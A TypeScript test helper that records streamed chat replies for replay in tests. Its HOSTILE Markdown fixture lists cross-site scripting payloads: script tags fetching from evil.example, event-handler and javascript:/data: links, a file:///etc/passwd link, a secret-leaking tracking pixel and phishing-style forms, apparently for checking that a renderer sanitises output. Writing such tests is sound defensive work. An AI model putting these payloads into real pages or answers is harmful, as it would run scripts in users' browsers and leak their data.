// Recordings for answers that the simulator does not give. They are made here, as the service would send them, and
// played by the prompt `replay NAME`.

import { copyFileSync, mkdtempSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";

import { ROOT } from "./servers";

/** The recordings that are in the repository. */
export const CASSETTES = path.join(ROOT, "tests/cassettes");

/** Everything that an answer could try to do to the page that shows it. */
export const HOSTILE = `# <script>alert("title")</script>

<script>window.harmed = true; fetch("https://evil.example/script")</script>

<img src="https://evil.example/raw.png" onerror="window.harmed = true">
<iframe src="https://evil.example/frame"></iframe>
<style>body { display: none }</style>
<link rel="stylesheet" href="https://evil.example/style.css">
<form action="https://evil.example/form"><button>Sign in</button></form>
<svg onload="window.harmed = true"><use href="https://evil.example/use.svg"/></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">

Inline <b onclick="window.harmed = true">bold</b> and <a href="javascript:window.harmed = true">raw link</a>.

[a good link](https://good.example/path?q=1) and [one with a title](https://good.example/ "Hello"),
[javascript](javascript:window.harmed=true), [shouted](JaVaScRiPt:window.harmed=true),
[tabbed](java&#9;script:window.harmed=true), [data](data:text/html,<script>window.harmed=true</script>),
[vbscript](vbscript:msgbox), [file](file:///etc/passwd), [blob](blob:https://evil.example/1),
[own](${"/v1beta/interactions"}), <javascript:window.harmed=true>, [mail](mailto:a@example.org).

![a remote picture](https://evil.example/pixel.png?secret=1)
![a data picture](data:image/svg+xml,<svg/onload=window.harmed=true>)
![](//evil.example/protocol-relative.png)
[![a picture in a link](https://evil.example/inner.png)](https://good.example/)

<https://good.example/auto> https://good.example/bare

| a | b |
| - | - |
| <img src=x onerror=window.harmed=true> | ![cell](https://evil.example/cell.png) |

\`\`\`html
<script>window.harmed = true</script>
\`\`\`

[^1]: <img src="https://evil.example/footnote.png">

Last words.[^1]
`;

/** A long answer that has all that Markdown can be, for pictures and for scrolling. */
const OWN: Record<string, string> = { hostile: HOSTILE };

function id(name: string): string {
  return `v1_${name.padEnd(30, "0")}`;
}

function sse(name: string, markdown: string): string {
  const head = (status: string) => ({ id: id(name), object: "interaction", model: "gemini-3-flash-preview", status });
  // Small pieces, so that everything is seen half-written as well.
  const pieces = markdown.match(/[\s\S]{1,7}/gu) ?? [];
  const events: object[] = [
    { interaction: head("in_progress"), event_type: "interaction.created" },
    { index: 0, step: { type: "model_output" }, event_type: "step.start" },
    ...pieces.map((text) => ({ index: 0, delta: { type: "text", text }, event_type: "step.delta" })),
    { index: 0, event_type: "step.stop" },
    { interaction: head("completed"), event_type: "interaction.completed" },
  ];
  return events
    .map((event) => `event: ${(event as { event_type: string }).event_type}\ndata: ${JSON.stringify(event)}\n\n`)
    .concat("event: done\ndata: [DONE]\n\n")
    .join("");
}

/** Makes a folder with the repository's recordings and our own. */
export function makeTapes(): string {
  const folder = mkdtempSync(path.join(tmpdir(), "catena-tapes-"));
  for (const name of readdirSync(CASSETTES).filter((name) => name.endsWith(".sse"))) {
    copyFileSync(path.join(CASSETTES, name), path.join(folder, name));
  }
  for (const [name, markdown] of Object.entries(OWN)) {
    writeFileSync(path.join(folder, `${name}.sse`), sse(name, markdown));
  }
  return folder;
}
